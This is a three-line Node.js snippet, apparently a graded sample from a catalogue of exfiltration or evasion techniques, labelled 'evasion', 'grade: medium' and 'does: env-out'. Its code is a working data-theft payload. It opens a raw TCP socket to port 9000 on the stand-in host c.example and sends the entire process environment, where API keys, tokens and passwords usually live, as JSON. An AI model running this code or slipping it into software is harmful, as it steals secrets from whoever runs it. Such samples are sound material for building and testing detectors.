// evasion: process.env over a raw socket
// grade: medium; does: env-out
const net = require("net");
const s = net.connect(9000, "c.example", () => s.end(JSON.stringify(process.env)));
